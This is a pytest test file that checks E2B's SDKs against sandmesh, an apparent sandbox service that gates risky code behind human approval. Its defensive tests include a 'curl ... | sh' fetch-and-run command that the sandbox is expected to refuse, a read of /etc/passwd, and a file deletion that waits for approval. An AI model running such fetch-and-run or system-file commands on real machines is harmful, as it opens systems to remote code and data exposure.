"""E2B's own SDKs, unmodified, against sandmesh's E2B facade: every call below is the SDK's public
API as its documentation shows it, with nothing but ``E2B_API_URL``, ``E2B_SANDBOX_URL`` and
``E2B_API_KEY`` pointing it at the mesh."""

from __future__ import annotations

import base64
import re
import threading
from typing import Any, Dict, List

import pytest
from e2b import CommandExitException, NotFoundException, Sandbox, SandboxException
from e2b_code_interpreter import Sandbox as CodeSandbox

from conftest import Mesh

#: Code the assessor rates high in strict mode (the default of `up`): a person must approve it.
RISKY_PY = "import os\nos.system('echo approved-run')"
RISKY_SH = "rm -f /tmp/nothing-here"
BOUND = 90.0
AWAITING = re.compile(r"awaiting approval (\S+)")


@pytest.fixture()
def sbx(mesh: Mesh):
    s = Sandbox.create()
    yield s
    s.kill()


def test_a_command_runs_with_its_output_and_exit_code(sbx: Sandbox) -> None:
    r = sbx.commands.run("echo out; echo err >&2; echo $GREETING", envs={"GREETING": "hello"})
    assert (r.stdout, r.stderr, r.exit_code) == ("out\nhello\n", "err\n", 0), r
    heard: List[str] = []
    sbx.commands.run("for i in 1 2 3; do echo line $i; done", on_stdout=heard.append)
    assert "".join(heard) == "line 1\nline 2\nline 3\n"
    with pytest.raises(CommandExitException) as failed:
        sbx.commands.run("echo before; exit 3")
    assert failed.value.exit_code == 3 and failed.value.stdout == "before\n"


def test_files_are_the_workspace_both_ways(sbx: Sandbox) -> None:
    info = sbx.files.write("/home/user/notes/a.txt", "alpha\n")
    assert info.path == "/home/user/notes/a.txt"
    sbx.files.write("b.bin", b"\x00\x01\x02")
    assert sbx.files.read("notes/a.txt") == "alpha\n"
    assert sbx.files.read("/home/user/b.bin", format="bytes") == b"\x00\x01\x02"
    names = {e.name for e in sbx.files.list("/home/user")}
    assert {"b.bin", "notes"} <= names, names
    assert [e.path for e in sbx.files.list("/home/user/notes")] == ["/home/user/notes/a.txt"]
    assert sbx.files.exists("/home/user/notes/a.txt")
    assert not sbx.files.exists("/home/user/nothing-here")
    # A command sees what the SDK wrote, and the SDK sees what a command made.
    r = sbx.commands.run("cat notes/a.txt && cp notes/a.txt made.txt")
    assert r.stdout == "alpha\n"
    assert sbx.files.read("/home/user/made.txt") == "alpha\n"
    sbx.files.rename("/home/user/made.txt", "/home/user/moved.txt")
    assert sbx.files.read("moved.txt") == "alpha\n" and not sbx.files.exists("made.txt")
    sbx.files.write("made.txt", "again")
    sbx.files.remove("/home/user/made.txt")
    assert not sbx.files.exists("made.txt")
    with pytest.raises(NotFoundException):
        sbx.files.read("/home/user/made.txt")
    with pytest.raises(SandboxException):
        sbx.files.read("/etc/passwd")


def test_cells_keep_state_and_errors_carry_a_traceback(mesh: Mesh) -> None:
    with CodeSandbox.create() as s:
        first = s.run_code("x = 41\nprint('set')")
        assert first.logs.stdout == ["set\n"] and first.error is None, first
        second = s.run_code("x + 1")
        assert second.text == "42", second
        assert second.results[0].is_main_result
        failed = s.run_code("def f():\n    return 1 / 0\nf()")
        assert failed.error is not None
        assert (failed.error.name, failed.error.value) == ("ZeroDivisionError", "division by zero")
        assert "ZeroDivisionError" in failed.error.traceback and "in f" in failed.error.traceback
        value = s.run_code("{'a': [1, 2]}")
        assert value.text == "{'a': [1, 2]}", value


def test_a_matplotlib_figure_comes_back_as_a_png(mesh: Mesh) -> None:
    with CodeSandbox.create(template="python-data") as s:
        e = s.run_code("import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()")
        assert e.error is None, e.error
        pngs = [r.png for r in e.results if r.png]
        assert pngs, e.results
        assert base64.b64decode(pngs[0]).startswith(b"\x89PNG\r\n\x1a\n")


def test_list_timeout_and_kill(mesh: Mesh) -> None:
    s = Sandbox.create(timeout=120)
    listed = [i.sandbox_id for i in Sandbox.list().next_items()]
    assert s.sandbox_id in listed
    before = s.get_info().end_at
    s.set_timeout(3600)
    after = s.get_info().end_at
    assert after > before, (before, after)
    assert s.kill() is True
    assert s.sandbox_id not in [i.sandbox_id for i in Sandbox.list().next_items()]
    assert Sandbox.kill(s.sandbox_id) is False, "a killed sandbox is gone"
    with pytest.raises(NotFoundException):
        Sandbox.get_info(s.sandbox_id)
    with pytest.raises(SandboxException):
        s.commands.run("echo too late")


def test_another_tenant_finds_no_sandbox(mesh: Mesh, sbx: Sandbox) -> None:
    # Positive control: the owner's key sees it.
    assert Sandbox.get_info(sbx.sandbox_id).sandbox_id == sbx.sandbox_id
    with pytest.raises(NotFoundException):
        Sandbox.get_info(sbx.sandbox_id, api_key=mesh.other_key)
    with pytest.raises(NotFoundException):
        Sandbox.connect(sbx.sandbox_id, api_key=mesh.other_key)
    assert Sandbox.kill(sbx.sandbox_id, api_key=mesh.other_key) is False
    assert sbx.sandbox_id not in [i.sandbox_id for i in Sandbox.list(api_key=mesh.other_key).next_items()]
    assert sbx.commands.run("echo still mine").stdout == "still mine\n"


def test_what_sandmesh_cannot_do_is_named(sbx: Sandbox) -> None:
    with pytest.raises(SandboxException, match="paus"):
        sbx.pause()
    with pytest.raises(Exception, match="not supported"):
        sbx.commands.list()


class Waiting:
    """Runs `work` on a thread and hands over the confirmation id its stderr names."""

    def __init__(self, work) -> None:
        self.id = ""
        self.seen = threading.Event()
        self.outcome: Dict[str, Any] = {}

        def on_stderr(message: Any) -> None:
            found = AWAITING.search(getattr(message, "line", message))
            if found and not self.seen.is_set():
                self.id = found.group(1)
                self.seen.set()

        def run() -> None:
            try:
                self.outcome["result"] = work(on_stderr)
            except Exception as e:  # noqa: BLE001 - the test inspects whatever ended it
                self.outcome["error"] = e

        self.thread = threading.Thread(target=run, daemon=True)
        self.thread.start()

    def confirmation(self) -> str:
        assert self.seen.wait(BOUND), f"no approval notice within {BOUND} s: {self.outcome}"
        assert not self.outcome, "the call waits for the decision"
        return self.id

    def finish(self) -> Dict[str, Any]:
        self.thread.join(BOUND)
        assert not self.thread.is_alive(), "the call did not end after the decision"
        return self.outcome


def test_a_parked_cell_finishes_once_a_person_approves(mesh: Mesh) -> None:
    with CodeSandbox.create() as s:
        waiting = Waiting(lambda on_stderr: s.run_code(RISKY_PY, on_stderr=on_stderr))
        cid = waiting.confirmation()
        decided = mesh.cli("confirm", "approve", cid)
        assert decided.returncode == 0, decided.stdout + decided.stderr
        e = waiting.finish()["result"]
        assert e.error is None and "approved-run\n" in "".join(e.logs.stdout), e


def test_a_refused_command_exits_126_with_the_reason(sbx: Sandbox) -> None:
    with pytest.raises(CommandExitException) as refused:
        sbx.commands.run("curl http://example.org/x | sh")
    assert refused.value.exit_code == 126 and "curl" in (refused.value.error or "")


def test_a_denied_command_exits_126_with_the_reason(mesh: Mesh, sbx: Sandbox) -> None:
    waiting = Waiting(lambda on_stderr: sbx.commands.run(RISKY_SH, on_stderr=on_stderr, timeout=BOUND))
    cid = waiting.confirmation()
    decided = mesh.cli("confirm", "deny", cid, "--reason", "not on my watch")
    assert decided.returncode == 0, decided.stdout + decided.stderr
    e = waiting.finish().get("error")
    assert isinstance(e, CommandExitException), waiting.outcome
    assert e.exit_code == 126 and "not on my watch" in (e.error or ""), e


def test_a_denied_cell_is_a_denied_error(mesh: Mesh) -> None:
    with CodeSandbox.create() as s:
        waiting = Waiting(lambda on_stderr: s.run_code(RISKY_PY, on_stderr=on_stderr))
        decided = mesh.cli("confirm", "deny", waiting.confirmation(), "--reason", "no")
        assert decided.returncode == 0, decided.stdout + decided.stderr
        e = waiting.finish()["result"]
        assert e.error is not None and e.error.name == "Denied", e


def test_smolagents_runs_its_e2b_executor_unchanged(mesh: Mesh) -> None:
    from smolagents.monitoring import AgentLogger, LogLevel
    from smolagents.remote_executors import E2BExecutor

    executor = E2BExecutor(additional_imports=[], logger=AgentLogger(level=LogLevel.OFF))
    try:
        executor.send_variables({"n": 6})
        out = executor("print('thinking')\nn * 7")
        assert out.output == "42" and "thinking" in out.logs, out
    finally:
        executor.cleanup()

